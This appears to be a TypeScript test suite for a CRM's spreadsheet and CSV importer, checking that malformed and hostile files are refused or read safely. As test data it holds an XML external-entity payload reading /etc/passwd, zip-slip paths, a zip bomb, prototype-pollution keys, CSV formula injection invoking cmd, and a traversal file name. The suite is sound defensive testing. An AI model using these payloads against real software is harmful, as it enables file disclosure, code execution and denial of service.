/**
 * The thirty files of the field notes that people bring by mistake or on purpose: each is refused with a reason or read right, quickly, in
 * bounded memory, and a refused one writes nothing.
 */
import assert from 'node:assert/strict'
import test, { after, before } from 'node:test'
import { makeImportWorld } from '../../../test/support/import.ts'
import { cellXml, workbook, zip } from '../../../test/support/zip.ts'
import { createAccount } from '../account/save-account.ts'
import { addUser, bearTenant } from '../identity/tenant.ts'
import { RefusalError } from '../kernel/refusal-error.ts'
import { inBulk } from '../kernel/transaction.ts'

let w: Awaited<ReturnType<typeof makeImportWorld>>
before(async () => {
  w = await makeImportWorld()
})
after(() => w.db.drop())

type Row = { name: string; [key: string]: unknown }
type Case = {
  readonly title: string
  readonly file: () => string | Buffer
  /** Refused as a whole, when it is brought or when it is checked. */
  readonly refused?: string
  /** Names written, and the codes of refused rows. */
  readonly names?: readonly string[]
  readonly rows?: readonly (readonly [row: number, code: string])[]
  readonly look?: (rows: readonly Row[]) => void
  readonly change?: Parameters<typeof w.check>[1]
}

const wide = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le')
/** GB18030 of the few characters used here, by inverting the decoder. */
function gb18030(text: string): Buffer {
  const decoder = new TextDecoder('gb18030')
  const table = new Map<string, Buffer>()
  for (let a = 0xb0; a <= 0xf7; a += 1) for (let b = 0xa1; b <= 0xfe; b += 1) table.set(decoder.decode(Buffer.from([a, b])), Buffer.from([a, b]))
  return Buffer.concat([...text].map(char => (char < '\x80' ? Buffer.from(char) : table.get(char)!)))
}
const TWO = '客户名称,员工数\n甲甲公司,1\n乙乙公司,2\n'
const BOTH = ['甲甲公司', '乙乙公司']
const sheet = (rows: string): string => `<sheetData>${rows}</sheetData>`
const HEAD = `<row r="1">${cellXml('A1', '客户名称')}${cellXml('B1', '员工数')}</row>`
const FIRST = `<row r="2">${cellXml('A2', '甲甲公司')}<c r="B2"><v>1</v></c></row>`

const CASES: readonly Case[] = [
  {
    title: '1 a quote on line 2 of 100,000 that is never closed',
    file: () => `客户名称,员工数\n"甲,1\n${'乙,2\n'.repeat(100_000)}`,
    refused: 'file.unclosedQuote',
  },
  {
    title: '2 ragged rows',
    file: () => '客户名称,员工数\n甲甲公司\n乙乙公司,2\n丙丙公司,3,多,出\n丁丁公司,4\n戊戊公司\n',
    names: ['甲甲公司', '乙乙公司', '丁丁公司', '戊戊公司'],
    rows: [[3, 'row.ragged']],
  },
  { title: '3 one heading twice', file: () => '客户名称,客户名称\n甲甲公司,别名\n乙乙公司,别名\n', names: BOTH },
  {
    title: '4 headings that are names of JavaScript',
    file: () => '客户名称,__proto__,constructor,toString\n甲甲公司,1,2,3\n乙乙公司,4,5,6\n',
    names: BOTH,
    change: { values: JSON.parse('{"tier":{"__proto__":"A","constructor":"B"}}') as Record<string, Record<string, string>> },
  },
  { title: '5 GB18030', file: () => gb18030(TWO), names: BOTH },
  { title: '6 UTF-16 with its mark', file: () => wide(TWO.replaceAll(',', '\t')), names: BOTH },
  { title: '7 UTF-8 with its mark', file: () => `\ufeff${TWO}`, names: BOTH },
  {
    title: '8 bytes of no encoding',
    file: () => Buffer.concat([Buffer.from(TWO), Buffer.from([0xff, 0xff, 0x2c, 0x31, 0x0a])]),
    refused: 'file.brokenText',
  },
  { title: '9 NUL in a cell', file: () => '客户名称,员工数\n甲甲\0公司,1\n乙乙公司,2\n', refused: 'file.nul' },
  ...[';', '\t', '，'].map(d => ({ title: `10 separated by ${JSON.stringify(d)}`, file: () => TWO.replaceAll(',', d), names: BOTH })),
  { title: '11 lines end with CR alone', file: () => TWO.replaceAll('\n', '\r'), names: BOTH },
  { title: '12 100,000 columns', file: () => `${'列,'.repeat(100_000)}尾\n${'1,'.repeat(100_000)}2\n`, refused: 'file.tooManyColumns' },
  { title: '13 one cell of 50 MB', file: () => `客户名称,员工数\n${'长'.repeat(17_000_000)},1\n`, refused: 'file.cellTooLong' },
  { title: '14 5,000,001 rows', file: () => `客户名称\n${'甲\n'.repeat(5_000_001)}`, refused: 'import.tooManyRows' },
  { title: '15 an empty file', file: () => '', refused: 'file.empty' },
  { title: '15 a heading and nothing else', file: () => '客户名称,员工数\n', refused: 'file.noRows' },
  { title: '16 an old workbook', file: () => Buffer.from('d0cf11e0a1b11ae1'.padEnd(1200, '0'), 'hex'), refused: 'file.oldExcel' },
  { title: '16 a web page', file: () => '<html><table><tr><td>客户名称</td></tr></table></html>', refused: 'file.unknownKind' },
  { title: '16 an archive of something else', file: () => zip([{ name: 'photo.jpg', data: Buffer.from('x') }]), refused: 'file.otherZip' },
  {
    title: '17 cells that unpack to 132 MB',
    file: () => workbook(sheet(`${HEAD}${FIRST}${`<row>${'<c><v>1</v></c>'.repeat(1000)}</row>`.repeat(9_000)}`)),
    refused: 'file.bomb',
  },
  {
    title: '18 a cell at XFD1048576',
    file: () => workbook(sheet(`${HEAD}${FIRST}<row r="1048576">${cellXml('XFD1048576', 'x')}</row>`)),
    refused: 'file.tooManyColumns',
  },
  {
    title: '19 row 999,999,999',
    file: () => workbook(sheet(`${HEAD}${FIRST}<row r="999999999">${cellXml('A999999999', '乙乙公司')}<c r="B999999999"><v>2</v></c></row>`)),
    names: BOTH,
  },
  {
    title: '20 an archive that lies about its size',
    file: () =>
      zip([
        { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
        { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(150 * 1024 * 1024), claim: 100 },
      ]),
    refused: 'file.bomb',
  },
  {
    title: '21 parts that want to be unpacked elsewhere',
    file: () =>
      workbook(sheet(`${HEAD}${FIRST}<row r="3">${cellXml('A3', '乙乙公司')}</row>`), [
        { name: '../../../tmp/escaped', data: Buffer.from('x') },
        { name: 'xl/embeddings/inner.zip', data: zip([{ name: '../a', data: Buffer.from('y') }]) },
      ]),
    names: BOTH,
  },
  {
    title: '22 an external entity',
    file: () =>
      workbook(
        Buffer.from(
          `<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${sheet(`${HEAD}<row r="2">${cellXml('A2', '甲甲公司')}</row><row r="3">${cellXml('A3', '&x;&b;')}</row>`)}</worksheet>`,
        ),
      ),
    refused: 'file.entities',
  },
  {
    title: '23 dates of every kind',
    file: () => '客户名称,成立日期\n甲,2024/3/5\n乙,45356\n丙,2024-02-30\n丁,31/12/24\n戊,二〇二四年\n',
    names: ['甲', '乙'],
    rows: [
      [3, 'row.date'],
      [4, 'row.date'],
      [5, 'row.date'],
    ],
    look: rows =>
      assert.deepEqual(
        rows.map(r => Object.values(r.custom as object)[0]),
        ['2024-03-05', '2024-03-05'],
      ),
    change: { fields: { 成立日期: 'f-date' } },
  },
  {
    title: '24 numbers of every kind',
    file: () =>
      '客户编号,客户名称,员工数,信用代码\n00123,甲,"1,234.50",\nb,乙,１２３４,\nc,丙,1e309,\nd,丁,NaN,\ne,戊,-0,\nf,己,9007199254740993,\ng,庚,1,9.1E+17\n',
    names: ['甲', '乙', '戊'],
    rows: [
      [3, 'row.number'],
      [4, 'row.number'],
      [6, 'row.number'],
      [7, 'row.lostDigits'],
    ],
    look: rows =>
      assert.deepEqual(
        rows.map(r => [r.key, r.size]),
        [
          ['00123', '1235'],
          ['b', '1234'],
          ['e', '0'],
        ],
      ),
  },
  {
    title: '25 formulas stay text',
    file: () => `客户名称,员工数\n"=HYPERLINK(""http://x/""&A1)",1\n+cmd|' /C calc'!A0,2\n@SUM(1),3\n`,
    names: [`=HYPERLINK("http://x/"&A1)`, `+cmd|' /C calc'!A0`, '@SUM(1)'],
  },
  {
    title: '26 owners of another company, who left, or called the same',
    file: () => '客户名称,负责人\n甲,stranger\n乙,gone\n丙,同名人\n丁,rep\n',
    names: ['丁'],
    rows: [
      [1, 'row.owner'],
      [2, 'row.owner'],
      [3, 'row.ownerTwice'],
    ],
  },
  { title: '28 one row twice', file: () => '客户编号,客户名称\nT1,甲\nT1,甲\n', names: ['甲'], rows: [[2, 'row.sameKey']] },
  {
    title: '29 ids of another company',
    file: () => `客户名称,上级集团\n甲,${foreign}\n乙,\n`,
    names: ['乙'],
    rows: [[1, 'row.parent']],
    change: { fields: { 上级集团: 'parentId' } },
  },
]
let foreign = '0'

test('every hostile file', async t => {
  // A second company with a person and an account, somebody who left, and a date of the company's own.
  await inBulk(w.db.bulk, async tx => {
    const born = await bearTenant(tx, { name: '别家', currency: 'CNY', zone: 'Asia/Shanghai', fiscalStartMonth: 1, locale: 'zh-CN', demo: false })
    await addUser(tx, born.tenantId, { login: 'stranger', name: '别家的人', roleIds: [born.roleIds.get('rep')!], passwordHash: 'x' })
    foreign = (
      await tx.query<{ id: string }>(
        `insert into account (tenant_id, name, created_at, updated_at) values ($1, '别家的客户', now(), now()) returning id::text`,
        [born.tenantId],
      )
    ).rows[0]!.id
    await tx.query(`insert into app_user (tenant_id, login, name, state) values (1, 'gone', '走了的人', 'inactive')`)
  })
  const [date] = await w.rows<{ id: string }>(
    `insert into field (tenant_id, object, key, type, labels, position) values (1, 'account', 'founded', 'date', '{"zh-CN":"成立日期","zh-TW":"成立日期","en":"Founded"}', 99) returning id::text`,
  )
  // Cheap beside an ordinary list on the same machine, however busy it is: 2.5 s where such a list takes 0.7 s.
  const plain = (rows: number) => `客户名称,员工数\n${Array.from({ length: rows }, (_, i) => `苏州精密机械有限公司${i},${i % 900}`).join('\n')}`
  const seconds = async (work: () => Promise<unknown>) => {
    const began = process.cpuUsage()
    await work()
    const used = process.cpuUsage(began)
    return (used.user + used.system) / 1e6
  }
  await bring(plain(20_000), {})
  const cheap = 3.5 * (await seconds(() => bring(plain(60_000), {})))
  for (const c of CASES)
    await t.test(c.title, async () => {
      const file = c.file()
      const before = (await w.rows<{ n: number }>('select count(*)::int as n from account'))[0]!.n
      const memory = process.memoryUsage().rss
      const fields = c.change?.fields && Object.fromEntries(Object.entries(c.change.fields).map(([k, v]) => [k, v === 'f-date' ? `f${date!.id}` : v]))
      let outcome!: Awaited<ReturnType<typeof bring>>
      const took = await seconds(async () => {
        outcome = await bring(file, { ...c.change, ...(fields ? { fields } : {}) })
      })
      assert.ok(took < cheap, `took ${took} s, allowed ${cheap} s`)
      assert.ok(process.memoryUsage().rss - memory < 700 * 1024 * 1024, 'memory')
      assert.equal(outcome.refused, c.refused)
      if (c.refused) {
        assert.equal((await w.rows<{ n: number }>('select count(*)::int as n from account'))[0]!.n, before)
        return
      }
      const rejects = await w.rows<{ row: number; code: string }>(
        `select row_no::int as row, problems->0->>'code' as code from import_reject where job_id = $1 order by row_no`,
        [outcome.id],
      )
      assert.deepEqual(
        rejects.map(r => [r.row, r.code]),
        c.rows ?? [],
      )
      await w.run(outcome.id)
      const written = await w.rows<Row>(
        `select a.name, a.size::text, a.custom, (select k.external_key from account_key k where k.account_id = a.id limit 1) as key from account a where a.import_id = $1 order by a.id`,
        [outcome.id],
      )
      assert.deepEqual(
        written.map(r => r.name),
        c.names,
      )
      c.look?.(written)
      await w.undo(outcome.id)
    })
})

/** Brings and checks; answers the code of a refusal, wherever it came. */
async function bring(file: string | Buffer, change: Parameters<typeof w.check>[1]): Promise<{ id: string; refused: string | undefined }> {
  try {
    const id = await w.bring(file)
    await w.check(id, { match: 'externalKey', ...change, ...(await hasKey(id)) })
    const [job] = await w.rows<{ state: string; code: string | null }>(
      `select state, stats->'refusal'->>'code' as code from import_job where id = $1`,
      [id],
    )
    return { id, refused: job!.state === 'failed' ? (job!.code ?? 'server.failed') : undefined }
  } catch (error) {
    if (!(error instanceof RefusalError)) throw error
    return { id: '0', refused: error.refusal.code }
  }
}
const hasKey = async (id: string) => ((await w.read(id)).guess.some(g => g.field === 'externalKey') ? {} : { match: 'none' as const })

test('27 who may not plan territories imports no members; who may not manage people imports none', async () => {
  for (const [object, who] of [
    ['member', 'rep'],
    ['user', 'ops'],
    ['account', 'rep'],
  ] as const)
    await assert.rejects(w.bring('a,b\n1,2\n', object, who), (e: unknown) => e instanceof RefusalError && e.refusal.code === 'permission.missing')
})

test('28 a row equal to a record out of sight is a new record, and an external key out of sight is only taken', async () => {
  const [role] = await w.rows<{ id: string }>(
    `update role set permissions = permissions || '{account.import}' where tenant_id = 1 and key = 'rep' returning id::text`,
  )
  assert.ok(role)
  await w.as('ops', (tx, actor) =>
    createAccount(tx, actor, { name: '看不见的公司', division: '330100', creditCode: '91440300192185379H' }, { source: 'test', key: 'HID' }),
  )
  const named = await w.whole('客户名称,员工数\n看不见的公司,5\n', 'account', { match: 'name' }, 'rep')
  assert.deepEqual([named.stats.creates, named.stats.bad], [1, 0])
  const coded = await w.whole('客户名称,信用代码\n别名公司,91440300192185379H\n', 'account', { match: 'creditCode' }, 'rep')
  assert.deepEqual([coded.stats.creates, coded.stats.bad], [1, 0])
  const keyed = await w.whole('客户编号,客户名称\nHID,编号公司\n', 'account', {}, 'rep')
  assert.deepEqual([keyed.stats.creates, (await w.rejects(keyed.id, 'rep'))[0]!.problems[0]!.words], [0, '这个外部编号不能用:已被占用'])
})

test('30 a file name is only a name', async () => {
  const { Readable } = await import('node:stream')
  const { upload } = await import('./jobs-of-import.ts')
  const id = await w.as('ops', (tx, actor, now) =>
    upload(tx, actor, now, { fieldName: 'file', fileName: '../../etc/passwd\u0000\r\n.csv', stream: Readable.from([Buffer.from(TWO)]) }),
  )
  assert.equal((await w.read(id)).fileName, '.._.._etc_passwd___.csv')
})
